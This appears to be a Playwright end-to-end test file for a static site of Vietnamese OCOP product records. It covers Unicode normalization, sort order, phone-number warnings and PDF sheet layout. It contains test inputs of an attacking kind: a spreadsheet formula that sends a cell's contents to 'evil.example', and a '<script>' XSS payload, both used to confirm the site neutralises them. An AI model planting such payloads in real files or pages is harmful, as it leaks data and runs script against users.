// The site built from tests/fixtures/awkward/: records as offices really send them (saved in NFD, a
// doubled space, two tone placements, a spreadsheet formula as a name, raw HTML in a description, a
// sheet with everything long), built once here with the PDF sheets (OCOP_SHEETS=1) and served on
// E2E_PORT + 3 (the sub-path suite has + 2). What must hold is in that folder's README.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse as parseHtml } from 'node-html-parser';
import { serveStatic } from '../../scripts/serve-static.ts';
import {
  cataloguePdfPath,
  pagePath,
  placeKitPath,
  placeKitPdfPath,
  recordPath,
  sheetPdfPath,
} from '../../src/lib/routes.ts';
import { TEST_AS_OF } from './as-of.ts';
import { expect, test } from './fixtures.ts';
import { emulatePaper, sheetLayoutProblems } from './layout.ts';
import { A4, pdfPageSizes } from './pdf.ts';

const PORT = Number(process.env.E2E_PORT ?? 4399) + 3;
const FIXTURE = resolve(import.meta.dirname, '../fixtures/awkward');

test.describe.configure({ mode: 'serial' });
test.use({ baseURL: `http://127.0.0.1:${PORT}` });

let dist = '';
let server: Server | undefined;
let buildLog = '';

test.beforeAll(async () => {
  test.setTimeout(600_000);
  dist = mkdtempSync(join(tmpdir(), 'ocop-awkward-'));
  // npm run sheets: the all-or-nothing build, with the PDF sheets.
  const result = spawnSync('npm', ['run', '--silent', 'sheets', '--', '--outDir', dist], {
    env: { ...process.env, OCOP_CONTENT_DIR: FIXTURE, OCOP_AS_OF: TEST_AS_OF },
    encoding: 'utf8',
    timeout: 590_000,
  });
  buildLog = `${result.stdout}\n${result.stderr}`;
  if (result.status !== 0) throw new Error(`the awkward fixture did not build:\n${buildLog}`);
  server = await serveStatic(dist, PORT);
});

test.afterAll(() => {
  server?.close();
  if (dist) rmSync(dist, { recursive: true, force: true });
});

const read = (path: string) => readFileSync(join(dist, path), 'utf8');
interface ExportedProduct {
  slug: string;
  name: string;
  commune: string;
  producer: { name: string };
  certificate: { number: string; issuer: string };
}
const exported = () => JSON.parse(read('data/products.json')) as ExportedProduct[];

test('every product is exported in NFC, and each commune under one spelling', () => {
  const products = exported();
  expect(products).toHaveLength(10);
  for (const product of products) {
    for (const value of [product.name, product.commune, product.producer.name, product.certificate.issuer]) {
      expect(value, product.slug).toBe(value.normalize('NFC'));
    }
  }
  const communes = Map.groupBy(products, (product) => product.commune);
  expect([...communes.keys()].sort()).toEqual(['Bản Bo', 'Hòa Bình', 'Khun Há', 'Tả Lèng']);
  expect(
    communes
      .get('Tả Lèng')!
      .map((product) => product.slug)
      .sort(),
  ).toEqual(['che-xanh-ta-leng', 'mat-ong-ta-leng', 'mo-ta-co-ma']);
  expect(communes.get('Bản Bo')).toHaveLength(3);
  expect(communes.get('Hòa Bình')).toHaveLength(3);
});

/** A built page as a DOM. */
const builtPage = (path: string) => parseHtml(read(`${path.slice(1)}index.html`));

test('the statistics, the catalogue filter and the search facets list each commune once', () => {
  const chart = builtPage(pagePath('statistics', 'vi')).querySelector('#by-commune-desc')!;
  expect(chart.textContent).toBe('Biểu đồ cột. Bản Bo: 3; Hòa Bình: 3; Khun Há: 1; Tả Lèng: 3.');

  const options = builtPage(pagePath('products', 'vi'))
    .querySelectorAll('select[name="xa"] option')
    .map((option) => option.getAttribute('value'));
  expect(options).toEqual(['', 'Bản Bo', 'Hòa Bình', 'Khun Há', 'Tả Lèng']);

  const facets = builtPage(pagePath('search', 'vi'))
    .querySelectorAll('input[name="commune"]')
    .map((input) => input.getAttribute('value'));
  // Products', producers' and places' communes: each one once, in one spelling.
  expect(new Set(facets).size).toBe(facets.length);
  expect(facets).toEqual(expect.arrayContaining(['Bản Bo', 'Hòa Bình', 'Tả Lèng']));
  expect(facets.filter((facet) => facet?.normalize('NFC') !== facet || /Hoà|\s{2}/.test(facet ?? ''))).toEqual([]);
});

test('names that differ only in tone are listed in dictionary order: Hòa, Hỏa, Hóa', () => {
  const names = builtPage(pagePath('products', 'vi'))
    .querySelectorAll('li[data-name]')
    .map((item) => item.getAttribute('data-name')!);
  expect(names.filter((name) => name.startsWith('Chè bà'))).toEqual(['Chè bà Hòa', 'Chè bà Hỏa', 'Chè bà Hóa']);
});

test('the build warns of the second spelling and of retired phone numbers, naming file and field', () => {
  expect(buildLog).toContain('3 warning(s) in the content folder');
  expect(buildLog).toMatch(
    /products\/che-ba-hoa-sac\.md: commune: "Hoà Bình" and "Hòa Bình" .*differ only in tone placement/,
  );
  expect(buildLog).toMatch(/producers\/hkd-hoa-binh\.json: phone: "01689 123 456" .*became 038 in 2018/);
  expect(buildLog).toMatch(
    /places\/diem-2\.json: phone: "\(0231\) 3875 123" uses 0231, Lai Châu's area code until 2017/,
  );
});

test('a name that is a spreadsheet formula stays text in the CSV, and as written in the JSON', () => {
  const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Lê Giang Ma")';
  expect(exported().find((product) => product.slug === 'cong-thuc-bang-tinh')!.name).toBe(formula);
  const csv = read('data/products.csv');
  const rows = parseCsv(csv.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
  expect(rows.find((row) => row.slug === 'cong-thuc-bang-tinh')!.name).toBe(`'${formula}`);
  // No cell, in any column, starts with what a spreadsheet runs.
  for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});

test('a "+84 (0)" phone dials without the trunk 0', async ({ page }) => {
  await page.goto(recordPath('producer', 'vi', 'htx-ta-leng'));
  await expect(page.getByRole('link', { name: '+84 (0) 912 345 678' }).first()).toHaveAttribute(
    'href',
    'tel:+84912345678',
  );
});

test('raw HTML in a description is shown as text and never runs', async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(recordPath('product', 'vi', 'mo-ta-co-ma'));
  const description = page.getByRole('region', { name: 'Giới thiệu' });
  await expect(description.getByText("<script>alert('x')</script>")).toBeVisible();
  await expect(description.locator('script, img, [onerror]')).toHaveCount(0);
  await expect(page.locator('[onerror]')).toHaveCount(0);
  await expect(page.locator('a[href^="javascript:" i]')).toHaveCount(0);
  for (const script of await page.locator('script').allTextContents()) expect(script).not.toContain('alert(');
  expect(dialogs).toEqual([]);
});

test('a product without an amount in its price has no offer in its structured data', () => {
  const html = builtPage(recordPath('product', 'vi', 'cong-thuc-bang-tinh'));
  const items = html.querySelectorAll('script[type="application/ld+json"]').map((script) => script.textContent);
  expect(items.join('')).not.toMatch(/Offer|"offers"|"Product"/);
});

test.describe('printed sheets', () => {
  for (const locale of ['vi', 'en'] as const) {
    test(`every sheet (${locale}): no two lines overlap, none is cut or covered`, async ({ page }) => {
      test.setTimeout(120_000);
      for (const { slug } of exported()) {
        await page.goto(recordPath('product', locale, slug));
        await emulatePaper(page);
        expect(await sheetLayoutProblems(page.locator('.product-sheet')), slug).toEqual([]);
      }
    });
  }

  test('a sheet with everything long shows the whole name and says what it shortened', async ({ page }) => {
    const record = readFileSync(join(FIXTURE, 'products/phieu-dai.md'), 'utf8');
    const name = /^name: "(.*)"$/m.exec(record)![1]!;
    expect(name.length).toBeGreaterThan(120);
    await page.goto(recordPath('product', 'vi', 'phieu-dai'));
    await emulatePaper(page);
    const sheet = page.locator('.product-sheet');
    await expect(sheet.getByRole('heading', { level: 2 })).toHaveText(name);
    const listed = await sheet.locator('.sales li').count();
    expect(listed).toBeGreaterThanOrEqual(1);
    expect(listed).toBeLessThan(6);
    await expect(sheet.locator('.sales')).toContainText(`và ${6 - listed} điểm bán khác: quét mã QR để xem đủ.`);
    await expect(sheet.locator('.description')).toContainText('Mô tả còn tiếp trên trang sản phẩm: quét mã QR.');
    await page.goto(recordPath('product', 'en', 'phieu-dai'));
    await emulatePaper(page);
    await expect(page.locator('.product-sheet .sales')).toContainText(/and \d+ more sales points?: scan the QR code/);
  });

  test('each product page links its PDF sheet, which the build wrote: one A4 page', async ({ page, request }) => {
    test.setTimeout(120_000);
    for (const locale of ['vi', 'en'] as const) {
      for (const { slug } of exported()) {
        await page.goto(recordPath('product', locale, slug));
        const link = page.getByRole('link', { name: locale === 'vi' ? 'Tải phiếu PDF' : 'Download the PDF sheet' });
        await expect(link).toHaveAttribute('href', sheetPdfPath(locale, slug));
        const response = await request.get(sheetPdfPath(locale, slug));
        expect(response.headers()['content-type']).toContain('pdf');
        const sizes = await pdfPageSizes(await response.body());
        expect(sizes).toHaveLength(1);
        expect(sizes[0]!.width).toBeCloseTo(A4.width, 0);
      }
      await page.goto(pagePath('fairPack', locale));
      await expect(page.getByRole('link', { name: /PDF/ })).toHaveAttribute('href', cataloguePdfPath(locale));
      expect(existsSync(join(dist, cataloguePdfPath(locale)))).toBe(true);
    }
  });

  test('each sales point’s kit page links the PDF the build wrote; its poster is one A4 page', async ({
    page,
    request,
  }) => {
    test.setTimeout(120_000);
    const salesPoints = readdirSync(join(FIXTURE, 'places')).map((file) => file.replace(/\.json$/, ''));
    for (const locale of ['vi', 'en'] as const) {
      for (const slug of salesPoints) {
        await page.goto(placeKitPath('poster', locale, slug));
        await expect(page.getByRole('link', { name: /PDF/ })).toHaveAttribute(
          'href',
          placeKitPdfPath('poster', locale, slug),
        );
        const sizes = await pdfPageSizes(await (await request.get(placeKitPdfPath('poster', locale, slug))).body());
        expect(sizes, slug).toHaveLength(1);
        expect(sizes[0]!.height).toBeCloseTo(A4.height, 0);
        // Labels: a PDF when the sales point sells a published product, and no link to a file otherwise.
        await page.goto(placeKitPath('labels', locale, slug));
        const written = existsSync(join(dist, placeKitPdfPath('labels', locale, slug)));
        await expect(page.getByRole('link', { name: /PDF/ })).toHaveCount(written ? 1 : 0);
      }
    }
  });
});
